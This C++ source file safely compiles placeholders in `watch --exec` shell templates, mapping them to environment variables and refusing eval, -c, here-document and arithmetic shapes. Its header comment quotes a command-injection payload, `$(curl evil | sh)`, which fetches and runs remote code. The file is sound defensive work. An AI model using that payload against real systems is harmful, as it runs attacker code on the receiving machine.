// Placeholders in `watch --exec` templates.
//
// The reference tool pasted raw message text into `sh -c`, so a body such as
// `$(curl evil | sh)` ran on the receiver. Quoting the value is not enough: a template
// can hand text to another shell (`sh -c '…'`, `bash -c "…"`, `ssh host '…'`), and a
// value expanded into that text is parsed as code by the inner shell, whatever quotes
// the outer one put around it. So a value never enters any shell text at all, at any
// depth. A placeholder stands for its BCH_* environment variable, written so that the
// variable is expanded only by the shell that reads the placeholder as a word of a
// command, never by a shell that is still building the text of another script:
//
//   outside quotes     echo {{body}}               →  echo "$BCH_BODY"
//   inside '…'         sh -c 'echo {{body}}'       →  sh -c 'echo "$BCH_BODY"'
//   inside "…"         bash -c "echo {{body}}"     →  bash -c "echo \"\$BCH_BODY\""
//   two deep           sh -c 'bash -c "echo {{body}}"'
//                                                  →  sh -c 'bash -c "echo \"\$BCH_BODY\""'
//
// Every quoted string that holds a placeholder is taken as a script for a shell further
// in: its content is unquoted the way the shell would, compiled again as a script of its
// own, and each placeholder's reference is escaped back for the quotes it sits in. The
// innermost shell expands "$BCH_BODY" from its environment (inherited by sh -c and
// bash -c; over ssh, unset, so it expands to nothing) and never parses the value. A
// quoted string that is only data (`echo "got {{body}}"`) therefore shows the reference
// text, not the value: the value itself is for words outside quotes.
//
// What no rule can make safe is a value handed to an interpreter as its program:
// `sh -c {{body}}`, `python3 -c {{body}}`, `eval {{body}}`, bash arithmetic (`((`,
// `$((`, `[[ … -eq … ]]` evaluate `a[$(cmd)]`), a here-document fed to a shell. The
// shapes recognisable in the template are refused; the rest is documented
// (docs/security.md).

#include <bch/error.hpp>
#include <bch/shell.hpp>

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <cctype>

namespace bch {
namespace {

struct Placeholder {
  std::string_view name;
  std::string_view variable;
};

constexpr std::array<Placeholder, 7> k_placeholders{{
    {"body", "BCH_BODY"},
    {"from", "BCH_FROM"},
    {"to", "BCH_TO"},
    {"id", "BCH_ID"},
    {"priority", "BCH_PRIORITY"},
    {"scope", "BCH_SCOPE"},
    {"thread", "BCH_THREAD"},
}};

// Levels of shell text within shell text; deeper templates are refused.
constexpr int k_max_depth = 8;

// A template, or the text of one of its quoted strings, with its placeholders replaced.
struct Compiled {
  std::string text;
  std::vector<std::string> references;  // what each placeholder became, in order
  bool nested = false;                  // some placeholder sat inside quotes
};

Error refuse(const std::string& why) {
  return Error(ErrorKind::usage, fmt::format("--exec template refused: {}", why));
}

// The placeholder at the start of `text` (which starts with "{{"), and its length.
const Placeholder& placeholder_at(std::string_view text, std::size_t& length) {
  auto close = text.find("}}", 2);
  if (close == std::string_view::npos) {
    throw Error(ErrorKind::usage, "unterminated {{ in --exec template");
  }
  std::string_view name = text.substr(2, close - 2);
  for (const auto& p : k_placeholders) {
    if (p.name == name) {
      length = close + 2;
      return p;
    }
  }
  throw Error(ErrorKind::usage,
              fmt::format("unknown placeholder {{{{{}}}}} in --exec template (known: body, "
                          "from, to, id, priority, scope, thread)",
                          name));
}

bool has_placeholder(std::string_view text) {
  return text.find("{{") != std::string_view::npos;
}

bool word_break(char c) {
  return c == ' ' || c == '\t' || c == '\n' || c == ';' || c == '&' || c == '|' || c == '('
         || c == ')' || c == '<' || c == '>';
}

// What a shell passes on from the inside of "…": a backslash before $ ` " \ or a
// newline is dropped (with the newline, for a line continuation); others stay.
std::string unquote_double(std::string_view raw) {
  std::string out;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    if (raw[i] == '\\' && i + 1 < raw.size()
        && std::string_view("$`\"\\\n").find(raw[i + 1]) != std::string_view::npos) {
      if (raw[++i] != '\n') {
        out += raw[i];
      }
      continue;
    }
    out += raw[i];
  }
  return out;
}

// `text` written so that the inside of "…" passes it on unchanged.
std::string escape_double(std::string_view text) {
  std::string out;
  for (char c : text) {
    if (c == '$' || c == '`' || c == '"' || c == '\\') {
      out += '\\';
    }
    out += c;
  }
  return out;
}

// `text` written so that the inside of '…' passes it on unchanged.
std::string escape_single(std::string_view text) {
  std::string out;
  for (char c : text) {
    out += c == '\'' ? std::string("'\\''") : std::string(1, c);
  }
  return out;
}

// The last complete word before `end` outside quotes in `text` (for "-c {{body}}").
std::string_view previous_word(std::string_view text, std::size_t end) {
  std::size_t stop = end;
  while (stop > 0 && (text[stop - 1] == ' ' || text[stop - 1] == '\t')) {
    --stop;
  }
  std::size_t start = stop;
  while (start > 0 && !word_break(text[start - 1])) {
    --start;
  }
  return text.substr(start, stop - start);
}

// Refuses the shapes that hand a value to an interpreter as code, in `text` read as
// one level of shell (quoted strings already skipped by the caller: `plain` is the text
// outside quotes, with a placeholder's start marked by '\x01').
void check_shapes(std::string_view plain) {
  if (plain.find('\x01') == std::string_view::npos) {
    return;
  }
  if (plain.find("<<") != std::string_view::npos) {
    throw refuse(
        "a here-document in a template with placeholders is read by a program "
        "that may run it; pass values as arguments instead");
  }
  if (plain.find("((") != std::string_view::npos || plain.find("[[") != std::string_view::npos) {
    throw refuse(
        "(( and [[ evaluate arithmetic, which runs code in a value in bash; "
        "compare with [ … ] or test instead");
  }
  for (std::size_t at = plain.find('\x01'); at != std::string_view::npos;
       at = plain.find('\x01', at + 1)) {
    std::string_view before = previous_word(plain, at);
    if (before == "-c" || before == "-e" || before == "--command" || before == "--eval"
        || before == "eval" || before == "source" || before == ".") {
      throw refuse(
          fmt::format("a placeholder right after `{}` would be run as code; pass it "
                      "as an argument of the script instead",
                      before));
    }
  }
  std::size_t eval = plain.find("eval");
  while (eval != std::string_view::npos) {
    bool starts = eval == 0 || word_break(plain[eval - 1]);
    bool ends = eval + 4 == plain.size() || word_break(plain[eval + 4]);
    if (starts && ends) {
      throw refuse("eval runs its arguments as code");
    }
    eval = plain.find("eval", eval + 4);
  }
}

// A piece of a shell word: plain text, a backslash escape, '…' or "…" (with quotes).
struct Piece {
  enum class Kind { plain, escaped, single, dbl } kind;
  std::string_view text;
};

// What the shell makes of a word's pieces (placeholders, having no special
// characters, come through as they are).
std::string word_value(const std::vector<Piece>& pieces) {
  std::string out;
  for (const auto& p : pieces) {
    switch (p.kind) {
      case Piece::Kind::plain:
        out += p.text;
        break;
      case Piece::Kind::escaped:
        if (p.text[1] != '\n') {
          out += p.text[1];
        }
        break;
      case Piece::Kind::single:
        out += p.text.substr(1, p.text.size() - 2);
        break;
      case Piece::Kind::dbl:
        out += unquote_double(p.text.substr(1, p.text.size() - 2));
        break;
    }
  }
  return out;
}

// `text` written so that, outside quotes, the shell passes it on unchanged.
std::string escape_plain(std::string_view text) {
  std::string out;
  for (char c : text) {
    bool word_char =
        (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '_';
    if (!word_char) {
      out += '\\';
    }
    out += c;
  }
  return out;
}

std::size_t count_placeholders(std::string_view text) {
  std::size_t n = 0;
  for (auto at = text.find("{{"); at != std::string_view::npos; at = text.find("{{", at + 2)) {
    ++n;
  }
  return n;
}

Compiled compile(std::string_view text, int depth);

// One word of the template at this level. A word that is a placeholder and nothing
// else, or holds placeholders among unquoted text, is expanded here: the value becomes
// (part of) one argument. A word with quotes or escapes in it and a placeholder is text
// that a shell further in may run (sh -c 'echo '{{body}}): its value is compiled as a
// script of its own, and each placeholder's reference is escaped back for the piece it
// sits in, so that the next shell finds exactly that reference in the word.
void compile_word(const std::vector<Piece>& pieces, int depth, Compiled& out, std::string& plain) {
  std::string word;
  bool quoted = false;
  for (const auto& p : pieces) {
    word += p.text;
    quoted = quoted || p.kind != Piece::Kind::plain;
  }
  if (!has_placeholder(word)) {
    out.text += word;
    plain += quoted ? std::string("Q") : word;
    return;
  }
  if (!quoted) {
    for (std::size_t i = 0; i < word.size(); ++i) {
      if (word.compare(i, 2, "{{") == 0) {
        std::size_t length = 0;
        const Placeholder& p = placeholder_at(std::string_view(word).substr(i), length);
        std::string ref = fmt::format("\"${}\"", p.variable);
        out.text += ref;
        out.references.push_back(ref);
        i += length - 1;
      } else {
        out.text += word[i];
      }
    }
    plain += '\x01';  // a value expanded at this level
    return;
  }
  if (depth >= k_max_depth) {
    throw refuse("placeholders nested too deep in quotes");
  }
  std::string value = word_value(pieces);
  std::size_t in_pieces = 0;
  for (const auto& p : pieces) {
    in_pieces += count_placeholders(p.text);
  }
  Compiled inner = compile(value, depth + 1);
  // Each placeholder must be whole in one piece and still one after unquoting (an
  // escaped brace, \{{id}}, is neither).
  if (in_pieces != count_placeholders(word) || inner.references.size() != in_pieces) {
    throw refuse("a placeholder is split or escaped by quotes or backslashes");
  }
  out.nested = true;
  std::size_t next = 0;
  for (const auto& p : pieces) {
    for (std::size_t i = 0; i < p.text.size(); ++i) {
      if (p.text.compare(i, 2, "{{") != 0) {
        out.text += p.text[i];
        continue;
      }
      std::size_t length = 0;
      placeholder_at(p.text.substr(i), length);
      const std::string& ref = inner.references.at(next++);
      std::string escaped = p.kind == Piece::Kind::single ? escape_single(ref)
                            : p.kind == Piece::Kind::dbl  ? escape_double(ref)
                                                          : escape_plain(ref);
      out.text += escaped;
      out.references.push_back(escaped);
      i += length - 1;
    }
  }
  plain += 'Q';  // a word for a shell further in, made safe above
}

Compiled compile(std::string_view text, int depth) {
  Compiled out;
  std::string plain;  // this level with words reduced for check_shapes
  std::size_t i = 0;
  while (i < text.size()) {
    char c = text[i];
    if (word_break(c) || c == '\r') {
      out.text += c;
      plain += c;
      ++i;
      continue;
    }
    if (c == '#' && (i == 0 || word_break(text[i - 1]))) {
      std::size_t end = text.find('\n', i);
      std::string_view comment = text.substr(i, end == std::string_view::npos ? end : end - i);
      out.text += comment;  // placeholders in a comment are never expanded
      i += comment.size();
      continue;
    }
    std::vector<Piece> pieces;
    while (i < text.size() && !word_break(text[i])) {
      char w = text[i];
      if (w == '\\') {
        std::size_t len = i + 1 < text.size() ? 2 : 1;
        pieces.push_back(
            {len == 2 ? Piece::Kind::escaped : Piece::Kind::plain, text.substr(i, len)});
        i += len;
      } else if (w == '\'' || w == '"') {
        std::size_t close = i + 1;
        while (close < text.size() && text[close] != w) {
          close += (w == '"' && text[close] == '\\') ? std::size_t{2} : std::size_t{1};
        }
        if (close >= text.size()) {
          throw refuse(fmt::format("unbalanced {} quote{}",
                                   w == '"' ? "double" : "single",
                                   depth > 0 ? " inside a quoted string" : ""));
        }
        pieces.push_back(
            {w == '"' ? Piece::Kind::dbl : Piece::Kind::single, text.substr(i, close + 1 - i)});
        i = close + 1;
      } else {
        std::size_t start = i;
        while (i < text.size() && !word_break(text[i]) && text[i] != '\\' && text[i] != '\''
               && text[i] != '"') {
          ++i;
        }
        pieces.push_back({Piece::Kind::plain, text.substr(start, i - start)});
      }
    }
    compile_word(pieces, depth, out, plain);
  }
  check_shapes(plain);
  return out;
}

}  // namespace

ExecTemplate compile_exec_template(std::string_view tmpl) {
  Compiled compiled = compile(tmpl, 0);
  return ExecTemplate{std::move(compiled.text), compiled.nested};
}

std::vector<std::pair<std::string, std::string>> exec_environment(const Message& message) {
  return {
      {"BCH_ID", message.id},
      {"BCH_FROM", message.from},
      {"BCH_TO", message.to},
      {"BCH_BODY", message.body},
      {"BCH_PRIORITY", to_string(message.priority)},
      {"BCH_SCOPE", message.scope.value_or("")},
      {"BCH_THREAD", message.thread.value_or("")},
  };
}

std::string shell_word(std::string_view text) {
  bool plain = !text.empty() && std::all_of(text.begin(), text.end(), [](char c) {
    return std::isalnum(static_cast<unsigned char>(c)) != 0
           || std::string_view("/._-+,:@%").find(c) != std::string_view::npos;
  });
  return plain ? std::string(text) : shell_quote(text);
}

std::string shell_quote(std::string_view text) {
  std::string out = "'";
  for (char c : text) {
    if (c == '\'') {
      out += "'\\''";
    } else {
      out += c;
    }
  }
  out += '\'';
  return out;
}

}  // namespace bch
